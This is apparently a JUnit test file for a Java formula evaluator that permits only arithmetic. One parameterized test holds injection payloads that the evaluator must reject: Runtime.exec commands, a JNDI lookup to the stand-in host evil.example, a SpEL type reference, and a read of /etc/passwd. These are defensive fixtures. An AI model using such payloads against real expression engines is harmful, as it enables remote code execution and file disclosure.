package org.gaoxin.standard;

import java.math.BigDecimal;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * A standard's formula is data: arithmetic over its inputs, nothing that runs code or
 * computes for long.
 */
class SafeFormulaTest {

	@Test
	void computesExactlyWithBigDecimals() {
		SafeFormula formula = SafeFormula.compile("100 * (rd_expense / 100000) / gdp");
		assertThat(formula.inputs()).containsExactlyInAnyOrder("rd_expense", "gdp");
		assertThat(formula.evaluate(Map.of("rd_expense", new BigDecimal("468000"), "gdp", new BigDecimal("180"))))
			.isEqualByComparingTo("2.6");
		assertThat(SafeFormula.compile("0.1 + 0.2").evaluate(Map.of())).isEqualByComparingTo("0.3");
	}

	@Test
	void allowsMinMaxAbsRound() {
		assertThat(SafeFormula.compile("MAX(a, b) - MIN(a, b) + ABS(-1) + ROUND(c, 1)")
			.evaluate(Map.of("a", BigDecimal.ONE, "b", BigDecimal.TEN, "c", new BigDecimal("0.26"))))
			.isEqualByComparingTo("10.3");
	}

	@ParameterizedTest
	@ValueSource(strings = { "java.lang.Runtime.getRuntime().exec(\"touch /tmp/pwned\")",
			"T(java.lang.Runtime).getRuntime().exec('id')", "${jndi:ldap://evil.example/a}", "\"a\" + \"b\"",
			"2 ^ 999999999", "FACT(100000)", "SQRT(2)", "IF(1 > 0, 1, 2)", "a.b", "a[0]", "1 > 0", "x = 1",
			"new java.io.File(\"/etc/passwd\")", "#{T(java.lang.System).exit(0)}", "DT_DATE_NEW(2020,1,1)",
			"STR_UPPER(\"x\")", "@import", "" })
	void refusesAnythingButArithmetic(String hostile) {
		assertThatThrownBy(() -> SafeFormula.compile(hostile)).isInstanceOf(IllegalArgumentException.class);
	}

	@Test
	void refusesOverlongFormulas() {
		assertThatThrownBy(() -> SafeFormula.compile("1" + " + 1".repeat(200))).hasMessageContaining("longer than");
		assertThatThrownBy(() -> SafeFormula.compile("a+".repeat(110) + "a")).hasMessageContaining("parts");
	}

	@Test
	void divisionByZeroIsReportedNotZero() {
		assertThatThrownBy(
				() -> SafeFormula.compile("a / b").evaluate(Map.of("a", BigDecimal.ONE, "b", BigDecimal.ZERO)))
			.isInstanceOf(IllegalArgumentException.class)
			.hasMessageContaining("zero");
	}

	@Test
	void aMissingInputIsReported() {
		assertThatThrownBy(() -> SafeFormula.compile("a + b").evaluate(Map.of("a", BigDecimal.ONE)))
			.hasMessageContaining("'b'");
	}

	@Test
	void aStoredZeroWithDecimalsIsADivisionByZeroToo() {
		// a figure read from NUMERIC(20, 4) is 0.0000, which EvalEx's own check misses
		for (String zero : new String[] { "0.0000", "0E-4", "0" }) {
			assertThatThrownBy(
					() -> SafeFormula.compile("a / b").evaluate(Map.of("a", BigDecimal.ONE, "b", new BigDecimal(zero))))
				.isInstanceOfSatisfying(SafeFormula.Uncomputable.class,
						(ex) -> assertThat(ex.reason()).isEqualTo(SafeFormula.Uncomputable.Reason.DIVISION_BY_ZERO));
			assertThatThrownBy(() -> SafeFormula.compile("a / b")
				.evaluate(Map.of("a", new BigDecimal(zero), "b", new BigDecimal(zero))))
				.isInstanceOfSatisfying(SafeFormula.Uncomputable.class,
						(ex) -> assertThat(ex.reason()).isEqualTo(SafeFormula.Uncomputable.Reason.DIVISION_BY_ZERO));
		}
	}

}
